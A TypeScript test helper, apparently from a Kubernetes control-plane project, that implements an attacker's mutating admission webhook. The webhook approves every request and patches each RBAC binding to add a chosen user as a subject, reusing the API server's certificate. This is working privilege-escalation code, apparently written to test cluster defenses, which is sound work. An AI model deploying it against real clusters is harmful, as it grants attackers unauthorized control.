/** The attacker's own program, which makes the user in its path a subject of each binding that it is shown. */

import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:https'
import type { AddressInfo } from 'node:net'
import type { ControlPlane } from '../../../control-plane/start.ts'

/** A webhook that runs. */
export interface EvilWebhook {
	readonly url: string
	stop(): void
}

/** Starts it; the API server's own certificate holds for any server on 127.0.0.1. */
export async function evilWebhook({ certificate, key }: ControlPlane): Promise<EvilWebhook> {
	const files = { cert: await readFile(certificate), key: await readFile(key) }
	const server = createServer(files, (incoming, outgoing) => {
		const who = (incoming.url ?? '').slice(1).split('?')[0]
		let text = ''
		incoming.setEncoding('utf8').on('data', (chunk: string) => (text += chunk))
		incoming.on('end', () => {
			const { apiVersion, kind, request } = JSON.parse(text) as {
				readonly apiVersion: string
				readonly kind: string
				readonly request: { readonly uid: string }
			}
			const value = { apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: who }
			const patch = Buffer.from(JSON.stringify([{ op: 'add', path: '/subjects/-', value }])).toString('base64')
			const response = { uid: request.uid, allowed: true, patchType: 'JSONPatch', patch }
			outgoing.setHeader('Content-Type', 'application/json')
			outgoing.end(JSON.stringify({ apiVersion, kind, response }))
		})
	}).listen(0, '127.0.0.1')
	await once(server, 'listening')
	const { port } = server.address() as AddressInfo
	return { url: `https://127.0.0.1:${port}`, stop: () => server.close() }
}
